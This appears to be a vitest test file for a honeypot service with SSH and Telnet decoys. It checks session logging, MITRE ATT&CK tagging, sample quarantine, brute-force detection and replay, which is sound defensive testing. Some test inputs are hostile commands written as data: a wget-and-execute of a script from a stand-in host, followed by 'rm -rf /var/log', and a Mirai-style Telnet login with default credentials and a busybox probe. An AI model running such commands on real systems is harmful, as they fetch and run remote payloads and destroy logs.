import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { House } from '../../services/honeypots/test-house.ts';
import { freePort, Lab } from '../probing/lab.ts';
import { run } from './clients.ts';

// Shells of decoys with OpenSSH, sshpass, telnet and nmap.

const lab = new Lab();
let house: House;
let ssh: number;
let telnet: number;

beforeAll(async () => {
  house = await House.open();
  [ssh, telnet] = (await Promise.all([freePort(), freePort()])) as [number, number];
  await house.decoy('linux-server', { 22: ssh });
  await house.decoy('infusion-pump', { 23: telnet, 80: await freePort() });
});
afterAll(async () => {
  await house.close();
  await lab.stop();
});

const PLAIN = [
  '-o',
  'StrictHostKeyChecking=no',
  '-o',
  'UserKnownHostsFile=/dev/null',
  '-o',
  'LogLevel=ERROR',
  '-o',
  'ConnectTimeout=10',
];
const login = (password: string, ...more: readonly string[]) => [
  '-p',
  password,
  'ssh',
  ...PLAIN,
  '-p',
  String(ssh),
  ...more,
];

describe('the shell behind SSH', () => {
  it('lets a weak password in, and runs nothing', async () => {
    const { output, status } = await run(
      'sshpass',
      login('root', 'root@127.0.0.1', 'id; uname -a; cat /etc/os-release; touch /tmp/here && ls /tmp'),
    );
    expect(output).toContain('uid=0(root)');
    expect(output).toContain('Linux');
    expect(output).toContain('bookworm');
    expect(status).toBe(0);
    const session = await house.session(({ commands }) => commands > 0);
    expect(session).toMatchObject({ protocol: 'ssh', severity: 'high', logOns: 1 });
    expect(session.tools[0]).toMatch(/^OpenSSH/);
    expect(session.techniques).toEqual(expect.arrayContaining(['T1059.004', 'T1078', 'T1082']));
  });

  it.each([
    ['aes128-ctr', 'hmac-sha2-256', 'ecdh-sha2-nistp256', 'ssh-ed25519'],
    ['aes256-gcm@openssh.com', 'hmac-sha2-512-etm@openssh.com', 'diffie-hellman-group14-sha256', 'rsa-sha2-256'],
    ['aes192-ctr', 'hmac-sha2-512-etm@openssh.com', 'curve25519-sha256', 'rsa-sha2-512'],
    ['aes256-ctr', 'hmac-sha1', 'curve25519-sha256@libssh.org', 'ssh-ed25519'],
  ])('speaks %s, %s, %s, %s', async (cipher, mac, kex, hostKey) => {
    const algorithms = ['-c', cipher, '-m', mac, '-o', `KexAlgorithms=${kex}`, '-o', `HostKeyAlgorithms=${hostKey}`];
    expect((await run('sshpass', login('root', ...algorithms, 'root@127.0.0.1', 'hostname'))).status).toBe(0);
  });

  it('keeps the address of what it is told to fetch, fetches nothing, and calls the visitor a program', async () => {
    const script =
      'cd /tmp; wget http://203.0.113.66/bins/x86.sh -O x.sh; chmod +x x.sh; ./x.sh; curl -s http://203.0.113.66/k; rm -rf /var/log';
    const { output } = await run('sshpass', login('root', 'root@127.0.0.1', script));
    expect(output).toContain('Connection timed out');
    const session = await house.session(({ urls }) => urls.length > 0);
    expect(session.urls).toEqual(['http://203.0.113.66/bins/x86.sh', 'http://203.0.113.66/k']);
    expect(session).toMatchObject({ visitor: 'malware', severity: 'critical' });
    expect(session.techniques).toContain('T1105');
    const alert = await house.alert(({ severity }) => severity === 'critical');
    expect(alert.techniques).toContain('T1105');
  });

  it('never forwards', async () => {
    const { output, status } = await run('sshpass', login('root', '-W', '127.0.0.1:9', 'root@127.0.0.1'));
    expect(status).not.toBe(0);
    expect(output).toMatch(/forwarding failed|prohibited/);
    await house.session(({ events }) => events.some(({ kind, data }) => kind === 'reach-out' && data?.port === 9));
  });

  it('takes files that are copied here, or piped into cat, into the quarantine, and lets nobody run them', async () => {
    const folder = await lab.folder();
    const tool = join(folder, 'tool.bin');
    await writeFile(tool, Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(40_000, 7)]));
    const { status } = await run('sshpass', [
      '-p',
      'root',
      'scp',
      '-O',
      ...PLAIN,
      '-P',
      String(ssh),
      tool,
      'root@127.0.0.1:/tmp/',
    ]);
    expect(status).toBe(0);
    const session = await house.session(({ samples }) => samples.some(({ name }) => name === 'tool.bin'));
    expect(session.samples[0]).toMatchObject({ kind: 'ELF program', bytes: 40_007 });
    const evidence = await house.sessions.open(session.id);
    expect(evidence?.pieces.map(({ kind }) => kind)).toEqual(['decoy-session', 'decoy-credentials', 'decoy-sample']);
    const archive = join(folder, 'sample.zip');
    await writeFile(archive, evidence?.pieces[2]?.content ?? '');
    const opened = await run('unzip', ['-p', '-P', 'infected', archive]);
    expect(opened.output.startsWith('\x7fELF')).toBe(true);
    expect(Buffer.from(evidence?.pieces[0]?.content ?? '').toString()).not.toContain('"secret": "root"');
    await run(
      'sshpass',
      login('root', 'root@127.0.0.1', 'cat > /tmp/piped.sh; chmod +x /tmp/piped.sh; /tmp/piped.sh'),
      '#!/bin/sh\necho ran-inside\n',
    );
    const piped = await house.session(({ samples }) => samples.some(({ name }) => name === 'piped.sh'));
    expect(piped.visitor).toBe('malware');
  });

  it('is somebody who guesses passwords after some wrong ones', async () => {
    for (const secret of ['a1', 'b2', 'c3', 'd4']) await run('sshpass', login(secret, 'nobody@127.0.0.1', 'true'));
    const session = await house.session(({ visitor }) => visitor === 'brute-force');
    expect(session.reasons[0]).toMatch(/log-ons/);
    expect(session.techniques.some((technique) => technique.startsWith('T1110'))).toBe(true);
  });

  it('is OpenSSH in the eyes of nmap', async () => {
    const { output } = await run('nmap', ['-Pn', '-sV', '-sT', '-p', String(ssh), '127.0.0.1']);
    expect(output).toMatch(/ssh\s+OpenSSH 9\.2p1 Debian/);
  });
});

describe('the console behind Telnet', () => {
  it('shows a prompt to telnet, lets a worm in, and can be replayed', async () => {
    const typed = [
      'root',
      'root',
      'enable',
      'system',
      'shell',
      'sh',
      '/bin/busybox ECCHI',
      'cat /proc/mounts',
      'exit',
      '',
    ].join('\r\n');
    const program = `(sleep 1; printf '${typed.replaceAll('\r\n', '\\r\\n')}'; sleep 2) | telnet 127.0.0.1 ${telnet}`;
    const { output } = await run('sh', ['-c', program]);
    expect(output).toContain('maintenance console');
    expect(output).toContain('ECCHI: applet not found');
    const session = await house.session(({ protocol, commands }) => protocol === 'telnet' && commands > 3);
    expect(session).toMatchObject({ visitor: 'malware', hasReplay: true });
    const replay = await house.ask<Response>('replayDecoySession', { params: { id: session.id } });
    const [head = '', ...frames] = (await replay.text()).trim().split('\n');
    expect(JSON.parse(head)).toMatchObject({ version: 2, width: 120 });
    const shown = frames.map((line) => JSON.parse(line) as [number, string, string]).filter(([, kind]) => kind === 'o');
    expect(shown.map(([, , text]) => text).join('')).toContain('ECCHI: applet not found');
  });
});
